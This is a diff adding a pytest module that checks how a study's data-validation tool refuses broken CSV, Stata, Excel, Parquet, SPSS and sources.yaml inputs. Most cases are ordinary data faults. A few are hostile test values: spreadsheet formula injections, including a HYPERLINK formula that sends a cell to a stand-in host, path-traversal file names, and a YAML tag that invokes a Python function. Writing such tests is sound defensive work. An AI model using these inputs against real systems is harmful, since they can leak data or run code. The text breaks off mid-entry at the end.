@@ -1,0 +1,828 @@
+"""Every way in which the files of a study can be broken, one kind at a time: each is refused, with the place, without a
+value. The fourth row of data carries what is wrong: row 5 of a spreadsheet, row 4 of a file whose names are no row."""
+
+import json
+import shutil
+import struct
+import traceback
+import warnings
+from collections.abc import Callable
+from functools import cache, partial
+from pathlib import Path
+from typing import Any, NamedTuple
+
+import numpy as np
+import openpyxl
+import pandas as pd
+import pyreadstat
+import pytest
+from click.testing import CliRunner
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from openpyxl.worksheet.formula import ArrayFormula
+
+import mothers_margins as mm
+from mothers_margins.cli import main
+
+from .conftest import REPOSITORY
+
+DEMO = REPOSITORY / "data_dictionary" / "esmi" / "dyads_synthetic.csv"
+PLANTED = "Zz-planted-77"  # the id of the fourth row, and what stands in broken cells
+SECRETS = (PLANTED, "777777", "Wq-0", "ESYN0")
+ROW = 3
+Rows = pd.DataFrame
+Change = Callable[[Rows], Rows]
+
+
+class Kind(NamedTuple):
+    """write: makes the broken input in a folder and returns its path. said: a line of the error, beside which it has
+    `problems` - 1 others (0: however many). hidden: more text that may appear nowhere."""
+
+    write: Callable[[Path], Path]
+    said: str
+    problems: int = 1
+    hidden: tuple[str, ...] = ()
+
+
+# ---- the file that is broken: 25 of the synthetic rows as a restricted file holds them, and its five formats
+
+SETTLED = {
+    "dyad_id": PLANTED,
+    "age_years": "31",
+    "relationship": "single",
+    "children_total": "2",
+    "other_children_csc": "No",
+    "country": "England",
+    "deprivation_index": "IMD 2015",
+    "deprivation_rank": "500",
+    "satisfaction": "82.7",
+    "readmitted_1y": "No",
+    "days_to_readmission": ".n",
+    "safeguarding_t1": "none",
+    "safeguarding_t2": "none",
+    "custody_t2": "Yes",
+    "custody_lost_by_t2": "No",
+    "cas_ever_relationship": "Yes",
+    "cas_04": "2",
+    "honos_02": "1",
+}
+CAS = [f"cas_{number:02d}" for number in range(1, 31)]
+
+
+@cache
+def _demo() -> Rows:
+    return pd.read_csv(DEMO, dtype="str", keep_default_na=False)
+
+
+def put(frame: Rows, row: int = ROW, **cells: Any) -> Rows:
+    frame = frame.astype({name: "object" for name in cells})
+    frame.loc[row, list(cells)] = list(cells.values())
+    return frame
+
+
+def own() -> Rows:
+    frame = _demo().head(25).drop(columns="data_status")
+    return put(frame.assign(dyad_id=[f"Wq-{number:04d}" for number in range(25)]), **SETTLED)
+
+
+def made_up() -> Rows:
+    return _demo().head(25)
+
+
+def numbers(frame: Rows, name: str) -> Rows:
+    return frame.assign(**{name: pd.to_numeric(frame[name], errors="coerce").astype("float64")})
+
+
+def sheet(frame: Rows, cell: str, value: Any, style: str = "General") -> openpyxl.Workbook:
+    book = openpyxl.Workbook()
+    book.active.append(list(frame.columns))
+    for row in frame.itertuples(index=False):
+        book.active.append(list(row))
+    book.active[cell].value, book.active[cell].number_format = value, style
+    return book
+
+
+WRITERS: dict[str, Callable[[Rows, Path], object]] = {
+    ".csv": lambda frame, path: frame.to_csv(path, index=False, lineterminator="\n"),
+    ".dta": lambda frame, path: frame.to_stata(path, write_index=False, version=118),
+    ".xlsx": lambda frame, path: frame.to_excel(path, index=False),
+    ".parquet": lambda frame, path: frame.to_parquet(path),
+    ".sav": lambda frame, path: pyreadstat.write_sav(frame, str(path)),
+}
+
+
+def written(suffix: str, change: Change = lambda frame: frame) -> Callable[[Path], Path]:
+    def write(folder: Path) -> Path:
+        WRITERS[suffix](change(own()), folder / f"own{suffix}")
+        return folder / f"own{suffix}"
+
+    return write
+
+
+def damaged(suffix: str, change: Callable[[bytes], bytes]) -> Callable[[Path], Path]:
+    def write(folder: Path) -> Path:
+        path = written(suffix)(folder)
+        path.write_bytes(change(path.read_bytes()))
+        return path
+
+    return write
+
+
+def saved(book: Callable[[Rows], openpyxl.Workbook]) -> Callable[[Path], Path]:
+    def write(folder: Path) -> Path:
+        book(own()).save(folder / "own.xlsx")
+        return folder / "own.xlsx"
+
+    return write
+
+
+def holding(name: str, content: bytes) -> Callable[[Path], Path]:
+    def write(folder: Path) -> Path:
+        (folder / name).write_bytes(content)
+        return folder / name
+
+    return write
+
+
+def declared(*levels: str) -> str:
+    return "with a code that is not declared (declared: " + ", ".join(f"'{level}'" for level in levels) + ")"
+
+
+KINDS: dict[str, Kind] = {}
+
+# ---- cells of the fourth row, as .csv
+
+YES_NO, FORMULA = declared("Yes", "No"), "with a formula; paste its value"
+PATTERN = "with a value that does not have the declared pattern"
+WHOLE, NUMBER = "without a whole number", "without a number"
+SAFEGUARDING = declared(
+    "none", "assessment or referral", "child in need plan", "child protection plan", "looked after or court order"
+)
+CELLS = {
+    "level not declared": (
+        "ethnicity",
+        PLANTED,
+        declared("White British", "White Other", "Black", "Asian", "Mixed or Other"),
+    ),
+    "level in another case": ("relationship", "Partner", declared("partner", "single")),
+    "space before a level": ("relationship", " single", declared("partner", "single")),
+    "ordered level not declared": ("children_total", "4", declared("1", "2", "3+")),
+    "label of the analyst's own": ("safeguarding_t1", "known to services", SAFEGUARDING),
+    "index of another country": (
+        "deprivation_index",
+        "SIMD 2012",
+        declared("IMD 2010", "IMD 2015", "WIMD 2011", "WIMD 2014"),
+    ),
+    "yes or no not declared": ("admissions_2y", PLANTED, YES_NO),
+    "TRUE where Yes is declared": ("custody_t2", "TRUE", YES_NO),
+    "rating of a need not declared": ("canm_05", "3", declared("0", "1", "2")),
+    "missing code not declared, in a category": ("country", "-99", declared("England", "Wales")),
+    "missing code not declared, in a number": ("honos_03", "-99", "outside 0 to 4"),
+    "missing code of another variable": ("other_children_csc", ".a", YES_NO),
+    "missing code .z": ("ctq_07", ".z", WHOLE),
+    "missing written as NA": ("bonding", "NA", NUMBER),
+    "missing written as a dot": ("services_1y", ".", WHOLE),
+    "text in a whole number": ("age_years", PLANTED, WHOLE),
+    "text in a number": ("satisfaction", PLANTED, NUMBER),
+    "decimal in a whole number": ("age_years", "29.5", WHOLE),
+    "decimal in an item": ("honos_02", "2.5", WHOLE),
+    "decimal comma": ("satisfaction", "82,7", NUMBER),
+    "thousands with a comma": ("deprivation_rank", "22,924", WHOLE),
+    "date in a whole number": ("days_in_care", "2019-03-01", WHOLE),
+    "date in a number": ("bonding", "01/03/2019", NUMBER),
+    "space before a number": ("infant_age_weeks", " 12", WHOLE),
+    "digits of another script": ("age_years", "２９", WHOLE),
+    "infinite": ("satisfaction", "inf", NUMBER),
+    "not a number by name": ("satisfaction", "nan", NUMBER),
+    "whole number too high": ("age_years", "777777", "outside 16 to 55"),
+    "whole number too low": ("gestation_weeks", "4", "outside 22 to 43"),
+    "negative": ("days_in_care", "-1", "outside 0 to 730"),
+    "number too high": ("bonding", "777777", "outside 0 to 125"),
+    "number just too low": ("satisfaction", "18.99", "outside 19 to 114"),
+    "item too high": ("cas_01", "6", "outside 0 to 5"),
+    "rank beyond every index": ("deprivation_rank", "32845", "outside 1 to 32844"),
+    "diagnosis with its point misplaced": ("icd10_primary", "F5.31", PATTERN),
+    "diagnosis in lower case": ("icd10_primary", "f53.1", PATTERN),
+    "two diagnoses where one is declared": ("icd10_primary", "F53.0;F20.1", PATTERN),
+    "diagnoses with another separator": ("icd10_other", "F53.0, F20.1", PATTERN),
+    "id with spaces": ("dyad_id", "Zz planted 77", PATTERN),
+    "id that is an address": ("dyad_id", "zz@planted.example", PATTERN),
+    "id too long": ("dyad_id", "Zz" * 11, PATTERN),
+    "id missing": ("dyad_id", "", "without a value, which is required"),
+    "formula in an id": ("dyad_id", "=A1+77", FORMULA),
+    "formula in a whole number": ("age_years", "=77+77", FORMULA),
+    "formula in a number": ("satisfaction", "+77+77", FORMULA),
+    "formula in a category": ("relationship", "@SUM(A1:A9)", FORMULA),
+    "formula in a diagnosis": ("icd10_other", "-A1-77", FORMULA),
+    "formula with a link": ("country", f'=HYPERLINK("http://x/?"&A2,"{PLANTED}")', FORMULA),
+}
+for name, (column, text, said) in CELLS.items():
+    hidden = (text,) if len(text) > 3 else ()
+    KINDS[name] = Kind(
+        written(".csv", partial(put, **{column: text})), f"{column}: 1 row {said} (row 5)", hidden=hidden
+    )
+
+# ---- combinations in the fourth row: what the study says is impossible, and items behind a closed gate
+
+_GATE = "items of Composite Abuse Scale, modified answered, which cannot be: not applicable: never in an adult relation"
+IMPOSSIBLE = {
+    "rank without country": (
+        {"country": ".c"},
+        "deprivation_rank and country",
+        "English and Welsh ranks are not comparable, so a rank needs its country",
+    ),
+    "rank without index": (
+        {"deprivation_index": ""},
+        "deprivation_rank and deprivation_index",
+        "a rank needs the index that it is a rank of",
+    ),
+    "Welsh index in England": (
+        {"deprivation_index": "WIMD 2011"},
+        "country and deprivation_index",
+        "the Welsh index does not rank areas of England",
+    ),
+    "English index in Wales": (
+        {"country": "Wales"},
+        "country and deprivation_index",
+        "the English index does not rank areas of Wales",
+    ),
+    "rank beyond the index of 2010": (
+        {"deprivation_index": "IMD 2010", "deprivation_rank": "32483"},
+        "deprivation_index and deprivation_rank",
+        "the index of 2010 ranks 32,482 areas",
+    ),
+    "rank beyond the Welsh index of 2011": (
+        {"country": "Wales", "deprivation_index": "WIMD 2011", "deprivation_rank": "1897"},
+        "deprivation_index and deprivation_rank",
+        "the Welsh index of 2011 ranks 1,896 areas",
+    ),
+    "rank beyond the Welsh index of 2014": (
+        {"country": "Wales", "deprivation_index": "WIMD 2014", "deprivation_rank": "1910"},
+        "deprivation_index and deprivation_rank",
+        "the Welsh index of 2014 ranks 1,909 areas",
+    ),
+    "days to no re-admission": (
+        {"days_to_readmission": "30"},
+        "readmitted_1y and days_to_readmission",
+        "days to a re-admission that is recorded not to have happened",
+    ),
+    "other children of a first-time mother": (
+        {"children_total": "1"},
+        "children_total and other_children_csc",
+        "a first-time mother has no other children",
+    ),
+    "without custody that was never lost": (
+        {"custody_t2": "No"},
+        "custody_t2 and custody_lost_by_t2",
+        "without custody at timepoint 2 although custody was never lost",
+    ),
+}
+for name, (cells, named, reason) in IMPOSSIBLE.items():
+    said = f"1 row with a combination of {named}, which cannot be: {reason} (row 5)"
+    KINDS[name] = Kind(written(".csv", partial(put, **cells)), said)
+KINDS |= {
+    "instrument answered behind a closed gate": Kind(
+        written(".csv", partial(put, cas_ever_relationship="No")), f"1 row with {_GATE}ship (row 5)"
+    ),
+    "one item answered behind a closed gate": Kind(
+        written(".csv", partial(put, **dict.fromkeys(CAS, ".n") | {"cas_ever_relationship": "No", "cas_04": "2"})),
+        f"1 row with {_GATE}ship (row 5)",
+    ),
+}
+
+# ---- rows and columns
+
+UNIQUE = "with a value that another row has too; it must be unique"
+BESIDE = "is supplied beside what it is made from; leave one of them out"
+MARKED = "data_status: every row must say 'synthetic', or the column must be left out"
+FRAMES: dict[str, tuple[Any, ...]] = {
+    "id twice": (lambda f: put(f, row=10, dyad_id=PLANTED), f"dyad_id: 2 rows {UNIQUE} (rows 5, 12)"),
+    "dyad twice": (lambda f: f.loc[[*f.index, ROW]], f"dyad_id: 2 rows {UNIQUE} (rows 5, 27)"),
+    "column missing": (lambda f: f.drop(columns="honos_07"), "column 'honos_07' is missing"),
+    "id column missing": (lambda f: f.drop(columns="dyad_id"), "column 'dyad_id' is missing"),
+    "column extra": (lambda f: f.assign(**{PLANTED: "1"}), "1 column that the schema does not declare (column 126)"),
+    "numbers of rows as a column": (
+        lambda f: f.reset_index(names=""),
+        "1 column that the schema does not declare (column 1)",
+    ),
+    "derived variable as a column": (
+        lambda f: f.assign(personality_disorder="No"),
+        "1 column that the schema does not declare (column 126)",
+    ),
+    "column twice": (lambda f: pd.concat([f, f[["age_years"]]], axis=1), "column 'age_years' stands more than once"),
+    "column renamed": (lambda f: f.rename(columns={"country": PLANTED}), "column 'country' is missing", 2),
+    "column in another case": (lambda f: f.rename(columns=str.upper), "column 'dyad_id' is missing", 0),
+    "names missing": (lambda f: f.set_axis([*f.iloc[ROW, :-1], PLANTED], axis=1), "column 'dyad_id' is missing", 0),
+    "score beside its items": (lambda f: f.assign(cas_total="12"), f"column 'cas_total' {BESIDE}"),
+    "score beside some of its items": (
+        lambda f: f.drop(columns=CAS[1:]).assign(cas_total="12"),
+        f"column 'cas_total' {BESIDE}",
+        30,
+    ),
+    "fifth beside its rank": (lambda f: f.assign(deprivation_quintile="1"), f"column 'deprivation_quintile' {BESIDE}"),
+    "score too high": (
+        lambda f: put(f.drop(columns=CAS).assign(cas_total="12"), cas_total="777777"),
+        "cas_total: 1 row outside 0 to 150 (row 5)",
+    ),
+    "fifth that there is not": (
+        lambda f: put(f.drop(columns="deprivation_rank").assign(deprivation_quintile="1"), deprivation_quintile="6"),
+        f"deprivation_quintile: 1 row {declared('1', '2', '3', '4', '5')} (row 5)",
+    ),
+    "score behind a closed gate": (
+        lambda f: put(
+            f.drop(columns=CAS).assign(cas_ever_relationship="Yes", cas_total="12"), cas_ever_relationship="No"
+        ),
+        "never in an adult relationship",
+    ),
+    "made-up rows without their mark": (
+        lambda _: made_up().drop(columns="data_status"),
+        "it holds made-up rows without the column that marks them; put that column back",
+    ),
+    "one made-up row": (
+        lambda f: put(f, dyad_id="ESYN001"),
+        "it holds made-up rows without the column that marks them; put that column back",
+    ),
+    "a row without the mark": (lambda _: put(made_up(), data_status=""), MARKED),
+    "no row with the mark": (lambda f: f.assign(data_status=".c"), MARKED),
+    "another mark": (
+        lambda _: put(made_up(), data_status=PLANTED),
+        f"data_status: 1 row {declared('synthetic')} (row 5)",
+    ),
+    "names only": (lambda f: f.head(0), "it holds no rows of data"),
+}
+KINDS |= {name: Kind(written(".csv", change), said, problems) for name, (change, said, problems) in FRAMES.items()}
+
+# ---- bytes, and files that are not what their name says
+
+NOT_TEXT = "it is not comma-separated text in UTF-8"
+PNG, ZIP, OLE = b"\x89PNG\r\n\x1a\n\x00\x00", b"PK\x03\x04\x14\x00\x00\x00\x08\x00\xff\xfe", b"\xd0\xcf\x11\xe0" * 200
+CUT = {suffix: f"it cannot be read as a {suffix} file; it may be cut short" for suffix in WRITERS}
+KINDS |= {
+    "empty": Kind(holding("own.csv", b""), "it holds no rows of data"),
+    "cut short within a row": Kind(
+        damaged(".csv", lambda all_: all_[: all_.index(PLANTED.encode()) + 60]),
+        "1 row with too many or too few cells (row 5)",
+    ),
+    "cut short within quotes": Kind(
+        damaged(".csv", lambda all_: all_[: all_.index(PLANTED.encode())] + b'"' + PLANTED.encode()), NOT_TEXT
+    ),
+    "quotes in the middle of a cell": Kind(
+        damaged(".csv", lambda all_: all_.replace(PLANTED.encode(), b'"Zz-planted"-77')), NOT_TEXT
+    ),
+    "blank line at the end": Kind(
+        damaged(".csv", lambda all_: all_ + b"\n"), "1 row with too many or too few cells (row 27)"
+    ),
+    "semicolons": Kind(
+        damaged(".csv", lambda all_: all_.replace(b",", b";").replace(b".", b",")),
+        "it has one column only; cells must be separated by commas",
+    ),
+    "tabs": Kind(
+        damaged(".csv", lambda all_: all_.replace(b",", b"\t")),
+        "it has one column only; cells must be separated by commas",
+    ),
+    "a first line for Excel": Kind(
+        damaged(".csv", lambda all_: b"sep=,\n" + all_),
+        "26 rows with too many or too few cells (rows 2, 3, 4, 5, 6, 7, 8, 9 and 18 more)",
+    ),
+    "Windows letters": Kind(
+        damaged(".csv", lambda all_: all_.replace(b"single", "Zz-planted-77 café".encode("cp1252"), 1)), NOT_TEXT
+    ),
+    "UTF-16": Kind(damaged(".csv", lambda all_: all_.decode().encode("utf-16")), NOT_TEXT),
+    "UTF-16 without its mark": Kind(damaged(".csv", lambda all_: all_.decode().encode("utf-16-le")), NOT_TEXT),
+    "NUL in a cell": Kind(damaged(".csv", lambda all_: all_.replace(b"single", b"sin\0gle", 1)), NOT_TEXT),
+    "NUL bytes only": Kind(holding("own.csv", b"\0" * 4096), "it holds no rows of data"),
+    "zip named .csv": Kind(holding("own.csv", ZIP), NOT_TEXT),
+    "picture named .csv": Kind(holding("own.csv", PNG), NOT_TEXT),
+    "workbook with a password": Kind(holding("own.xlsx", OLE), CUT[".xlsx"]),
+    "Word file": Kind(holding("own.docx", ZIP), "it is not a .csv, .dta, .xlsx, .parquet or .sav file"),
+    "old workbook": Kind(holding("own.xls", OLE), "it is not a .csv, .dta, .xlsx, .parquet or .sav file"),
+    "no suffix": Kind(holding("own", PNG), "it is not a .csv, .dta, .xlsx, .parquet or .sav file"),
+    "no such file": Kind(lambda folder: folder / "gone.csv", "there is no such file, or it may not be read"),
+    "folder of pictures": Kind(
+        lambda folder: holding("scan.png", PNG)(folder).parent, "there is no such file, or it may not be read", 0
+    ),
+    "no such sources.yaml": Kind(lambda folder: folder / "mapping.yaml", "mapping.yaml: there is no such file"),
+}
+for suffix in (".dta", ".xlsx", ".parquet", ".sav"):
+    KINDS |= {
+        f"{suffix} cut in half": Kind(damaged(suffix, lambda all_: all_[: len(all_) // 2]), CUT[suffix]),
+        f"{suffix} without its end": Kind(damaged(suffix, lambda all_: all_[: -len(all_) // 50]), CUT[suffix]),
+        f"{suffix} of no bytes": Kind(holding(f"own{suffix}", b""), CUT[suffix]),
+        f"picture named {suffix}": Kind(holding(f"own{suffix}", PNG), CUT[suffix]),
+        f"level not declared in {suffix}": Kind(
+            written(suffix, partial(put, country=PLANTED)),
+            f"country: 1 row {declared('England', 'Wales')} (row {5 if suffix == '.xlsx' else 4})",
+        ),
+        f"no rows in {suffix}": Kind(written(suffix, lambda frame: frame.head(0)), "it holds no rows of data"),
+    }
+
+
+# ---- what only one format can hold
+
+
+def _stata_z(folder: Path) -> Path:
+    ages = own()["age_years"].astype(float).astype(object)
+    ages[ROW] = "z"
+    pyreadstat.write_dta(
+        own().assign(age_years=ages), str(folder / "own.dta"), missing_user_values={"age_years": ["z"]}
+    )
+    return folder / "own.dta"
+
+
+def _stata_rows(all_: bytes) -> bytes:
+    at = all_.index(b"<N>") + 3
+    return all_[:at] + struct.pack("<Q", 10**13) + all_[at + 8 :]
+
+
+def _two_sheets(frame: Rows) -> openpyxl.Workbook:
+    book = sheet(frame, "B5", 31)
+    book.create_sheet(PLANTED)
+    return book
+
+
+def _blank_row(frame: Rows) -> openpyxl.Workbook:
+    book = sheet(frame, "B5", 31)
+    book.active.insert_rows(5)
+    return book
+
+
+def _titled(frame: Rows) -> openpyxl.Workbook:
+    book = sheet(frame, "B5", 31)
+    book.active.insert_rows(1, 2)
+    book.active["A1"].value = PLANTED
+    return book
+
+
+AGE = "age_years: 1 row without a whole number"
+KINDS |= {
+    "undeclared missing .z in .dta": Kind(_stata_z, f"{AGE} (row 4)"),
+    "float in an item of .dta": Kind(
+        written(".dta", lambda f: put(numbers(f, "honos_02"), honos_02=2.5).astype({"honos_02": "float64"})),
+        "honos_02: 1 row without a whole number (row 4)",
+    ),
+    "value label not declared in .dta": Kind(
+        written(".dta", lambda f: f.assign(country=pd.Categorical([PLANTED] * len(f)))),
+        f"country: 25 rows {declared('England', 'Wales')} (rows 1, 2, 3, 4, 5, 6, 7, 8 and 17 more)",
+    ),
+    "date in .dta": Kind(
+        written(".dta", lambda f: f.assign(age_years=pd.Timestamp("2019-03-01"))),
+        "age_years: 25 rows outside 16 to 55 (rows 1, 2, 3, 4, 5, 6, 7, 8 and 17 more)",
+    ),
+    "number of rows damaged in .dta": Kind(damaged(".dta", _stata_rows), CUT[".dta"]),
+    "date in .sav": Kind(
+        written(".sav", lambda f: f.assign(age_years=pd.Timestamp("2019-03-01").date())),
+        "age_years: 25 rows without a whole number (rows 1, 2, 3, 4, 5, 6, 7, 8 and 17 more)",
+    ),
+    "missing code not declared in .sav": Kind(
+        written(".sav", lambda f: put(numbers(f, "honos_02"), honos_02=-99.0).astype({"honos_02": "float64"})),
+        "honos_02: 1 row outside 0 to 4 (row 4)",
+    ),
+    "true in .parquet": Kind(
+        written(".parquet", lambda f: f.assign(admissions_2y=True)),
+        f"admissions_2y: 25 rows {YES_NO} (rows 1, 2, 3, 4, 5, 6, 7, 8 and 17 more)",
+    ),
+    "list in a cell of .parquet": Kind(
+        written(".parquet", lambda f: f.assign(age_years=[[777777, 777777]] * 25)), CUT[".parquet"]
+    ),
+    "id as the index of .parquet": Kind(
+        written(".parquet", lambda f: f.set_index("dyad_id")), "column 'dyad_id' is missing"
+    ),
+    "bytes damaged in .parquet": Kind(
+        damaged(".parquet", lambda all_: all_[:4] + b"\xff" * 60 + all_[64:]), CUT[".parquet"]
+    ),
+    "NUL in a cell of .parquet": Kind(written(".parquet", partial(put, age_years="\0not supplied")), f"{AGE} (row 4)"),
+    "several sheets": Kind(saved(_two_sheets), "it has 2 sheets that fit; name one as `sheet` in sources.yaml"),
+    "workbook with nothing in it": Kind(saved(lambda _: openpyxl.Workbook()), "it holds no rows of data"),
+    "title above the names": Kind(saved(_titled), "column 'dyad_id' is missing", 0),
+    "blank row in a workbook": Kind(saved(_blank_row), "dyad_id: 1 row without a value, which is required (row 5)"),
+    "formula in a workbook": Kind(
+        saved(lambda f: sheet(f, "B5", "=SUM(777777,A1)")), f"age_years: 1 row {FORMULA} (row 5)"
+    ),
+    "formula in an id of a workbook": Kind(
+        saved(lambda f: sheet(f, "A5", f'=CONCAT("{PLANTED}",1)')), f"dyad_id: 1 row {FORMULA} (row 5)"
+    ),
+    "array formula in a workbook": Kind(
+        saved(lambda f: sheet(f, "B5", ArrayFormula("B5:B5", "=SUM(777777)"))), f"age_years: 1 row {FORMULA} (row 5)"
+    ),
+    "date in a workbook": Kind(
+        saved(lambda f: sheet(f, "B5", pd.Timestamp("2019-03-01"), "yyyy-mm-dd")), f"{AGE} (row 5)", hidden=("2019",)
+    ),
+    "date beyond the calendar in a workbook": Kind(
+        saved(lambda f: sheet(f, "B5", 777777777, "yyyy-mm-dd")), f"{AGE} (row 5)"
+    ),
+    "TRUE in a workbook": Kind(
+        saved(lambda f: sheet(f, "D5", True)),
+        f"relationship: 1 row {declared('partner', 'single')} (row 5)",
+    ),
+    "error value in a workbook": Kind(saved(lambda f: sheet(f, "B5", "#N/A")), f"{AGE} (row 5)"),
+    "text beside the table in a workbook": Kind(
+        saved(lambda f: sheet(f, "EA9", PLANTED)), "that the schema does not declare", 0
+    ),
+}
+
+# ---- folders: sources.yaml, its tables and corrections.csv
+
+Plan = dict[str, Any]
+Tables = dict[str, Any]
+
+
+def in_folder(
+    change: Callable[[Plan, Tables], object] = lambda plan, tables: None, text: Callable[[str], str] = str
+) -> Callable[[Path], Path]:
+    """A folder with two tables, main.csv and cas.csv. change: of the plan and the tables, in place; text: of the
+    sources.yaml. A table that is made None is not written; one that is bytes is written as it is."""
+
+    def write(folder: Path) -> Path:
+        cas = ["cas_ever_relationship", *CAS]
+        tables: Tables = {"main.csv": own().drop(columns=cas), "cas.csv": own()[["dyad_id", *cas]]}
+        named = {name: name for name in tables["main.csv"] if name != "dyad_id"}
+        plan: Plan = {
+            "tables": [
+                {"file": "main.csv", "id": "dyad_id", "variables": named},
+                {
+                    "file": "cas.csv",
+                    "id": "dyad_id",
+                    "variables": {"cas_ever_relationship": "cas_ever_relationship"},
+                    "items": {"cas": "cas_{nn}"},
+                },
+            ]
+        }
+        change(plan, tables)
+        (folder / "tables").mkdir()
+        for name, table in tables.items():
+            if isinstance(table, bytes):
+                (folder / "tables" / name).write_bytes(table)
+            elif table is not None:
+                table.to_csv(folder / "tables" / name, index=False, lineterminator="\n")
+        (folder / "tables" / "sources.yaml").write_text(text(json.dumps(plan, indent=1)), encoding="utf-8")
+        return folder / "tables"
+
+    return write
+
+
+def of_plan(**keys: Any) -> Callable[[Plan, Tables], object]:
+    return lambda plan, _: plan["tables"][1].update(keys)
+
+
+def of_variables(**named: Any) -> Callable[[Plan, Tables], object]:
+    return lambda plan, _: plan["tables"][0]["variables"].update(named)
+
+
+def of_table(name: str, change: Callable[[Any], Any]) -> Callable[[Plan, Tables], object]:
+    return lambda _, tables: tables.update({name: change(tables[name])})
+
+
+def both(*changes: Callable[[Plan, Tables], object]) -> Callable[[Plan, Tables], object]:
+    return lambda plan, tables: [change(plan, tables) for change in changes]
+
+
+STATUS = {"from": "relationship", "values": {"partner": "partner", "single": "single"}}
+SOURCES: dict[str, tuple[Any, ...]] = {
+    "label not mapped": (
+        both(of_variables(relationship=STATUS), of_table("main.csv", partial(put, relationship=PLANTED))),
+        "relationship: 1 row with a label that sources.yaml does not map (row 5 of main.csv)",
+    ),
+    "label not mapped where empty cells are": (
+        both(
+            of_variables(relationship={"from": "relationship", "values": {"single": "single", "": ".a"}}),
+            of_table("main.csv", lambda f: put(f.assign(relationship="single"), relationship=PLANTED)),
+        ),
+        "relationship: 1 row with a label that sources.yaml does not map (row 5 of main.csv)",
+    ),
+    "label mapped to no level": (
+        of_variables(relationship={**STATUS, "values": {"single": "alone"}}),
+        "sources.yaml: main.csv: relationship: 'alone' is no level or missing code",
+    ),
+    "variable that there is not": (
+        of_variables(age_yeers="age_years"),
+        "sources.yaml: main.csv: no variable 'age_yeers'; did you mean 'age_years'?",
+    ),
+    "instrument that there is not": (
+        of_plan(items={"cast": "cas_{nn}"}),
+        "sources.yaml: cas.csv: no instrument 'cast'",
+    ),
+    "key that there is not": (
+        of_plan(ids="dyad_id"),
+        "sources.yaml: tables.1.ids: this key is not part of the format",
+    ),
+    "others neither refused nor ignored": (of_plan(others="maybe"), "sources.yaml: tables.1.others: string should"),
+    "no table named": (lambda plan, _: plan.update(tables=[]), "sources.yaml: tables: must not be empty"),
+    "variable in two tables": (
+        of_plan(variables={"country": "cas_ever_relationship"}),
+        "sources.yaml: country stands 2 times",
+    ),
+    "items in two tables": (
+        lambda plan, _: plan["tables"][0].update(items={"cas": "cas_{nn}"}),
+        "sources.yaml: items of cas stands 2 times",
+    ),
+    "item named twice": (
+        of_plan(variables={"cas_ever_relationship": "cas_ever_relationship", "cas_01": "cas_02"}),
+        "cas_01",
+    ),
+    "items without their number": (of_plan(items={"cas": "cas_01"}, others="ignore"), "{n}"),
+    "file that is not there": (
+        of_table("cas.csv", lambda _: None),
+        "cas.csv: there is no such file, or it may not be read",
+    ),
+    "file in another folder": (of_plan(file="../cas.csv"), "sources.yaml: tables.1.file: string should match"),
+    "file in another folder, of Windows": (
+        of_plan(file="..\\cas.csv"),
+        "sources.yaml: tables.1.file: string should match",
+    ),
+    "table of an unknown kind": (
+        both(of_plan(file="cas.docx"), lambda _, tables: tables.update({"cas.docx": ZIP})),
+        "cas.docx: it is not a .csv, .dta, .xlsx, .parquet or .sav file",
+    ),
+    "table that is a picture": (
+        both(of_plan(file="cas.dta"), lambda _, tables: tables.update({"cas.dta": PNG})),
+        f"cas.dta: {CUT['.dta']}",
+    ),
+    "table without rows": (of_table("cas.csv", lambda f: f.head(0)), "cas.csv: it holds no rows of data"),
+    "id column not there": (
+        of_plan(id="study_number", others="ignore"),
+        "cas.csv: column 'study_number', the id, is missing",
+    ),
+    "column not there": (
+        of_table("cas.csv", lambda f: f.drop(columns="cas_07")),
+        "cas.csv: column 'cas_07', which sources.yaml names, is missing",
+    ),
+    "column not named": (
+        of_table("cas.csv", lambda f: f.assign(**{PLANTED: "777777"})),
+        "cas.csv: 1 column not named in sources.yaml (column 33)",
+    ),
+    "column twice in a table": (
+        of_table("cas.csv", lambda f: pd.concat([f, f[["cas_01"]]], axis=1)),
+        "cas.csv: column 'cas_01' stands more than once",
+    ),
+    "names missing in a table": (
+        of_table("cas.csv", lambda f: f.set_axis([*f.iloc[ROW, :-2], PLANTED, PLANTED], axis=1)),
+        "cas.csv: column 'dyad_id', the id, is missing",
+        0,
+    ),
+    "variable in no table": (
+        lambda plan, _: (plan["tables"][0].update(others="ignore"), plan["tables"][0]["variables"].pop("country")),
+        "column 'country' is missing",
+    ),
+    "two rows of a dyad in the first table": (
+        of_table("main.csv", lambda f: f.loc[[*f.index, ROW]]),
+        "main.csv: 1 id with more than one row",
+    ),
+    "two rows of a dyad in another table": (
+        of_table("cas.csv", lambda f: f.loc[[*f.index, ROW, 7]]),
+        "cas.csv: 2 ids with more than one row",
+    ),
+    "id missing in a table": (of_table("cas.csv", partial(put, dyad_id="")), "cas.csv: 1 row without an id (row 5)"),
+    "no id in common": (of_table("cas.csv", lambda f: f.assign(dyad_id=f["dyad_id"] + "x")), "cas.csv"),
+    "code not declared in another table": (
+        of_table("cas.csv", lambda f: put(f.iloc[::-1].reset_index(drop=True), cas_03=PLANTED)),
+        "cas_03: 1 row without a whole number (row 5 of cas.csv)",
+    ),
+    "closed gate in another table": (
+        of_table("cas.csv", partial(put, cas_ever_relationship="No")),
+        f"1 row with {_GATE}ship (row 5)",
+    ),
+    "wrong id in a first table of ids": (
+        lambda plan, tables: (
+            plan["tables"].insert(0, {"file": "ids.csv", "id": "dyad_id"}),
+            tables.update({"ids.csv": put(own()[["dyad_id"]], dyad_id="Zz planted 77")}),
+        ),
+        f"dyad_id: 1 row {PATTERN} (row 5 of ids.csv)",
+    ),
+    "corrections in another folder": (
+        lambda plan, _: plan.update(corrections="../corrections.csv"),
+        "sources.yaml: corrections: string should match",
+    ),
+    "corrections not there": (
+        lambda plan, _: plan.update(corrections="corrections.csv"),
+        "corrections.csv: there is no such file, or it may not be read",
+    ),
+}
+KINDS |= {name: Kind(in_folder(change), *rest) for name, (change, *rest) in SOURCES.items()}
+KINDS |= {
+    "sources.yaml cut short": Kind(in_folder(text=lambda all_: all_[: len(all_) // 2]), "not readable as UTF-8 YAML"),
+    "sources.yaml with a key twice": Kind(
+        in_folder(
+            text=lambda all_: all_.replace('"age_years"', '"dyad_id": "x",\n"age_years": "age_years",\n"age_years"', 1)
+        ),
+        "key 'age_years' stands already in line",
+        0,
+    ),
+    "sources.yaml of no table": Kind(in_folder(text=lambda _: "[]"), "sources.yaml: the file: must hold keys"),
+    "sources.yaml that runs a program": Kind(
+        in_folder(text=lambda _: "tables: !!python/object/apply:os.getcwd []"),
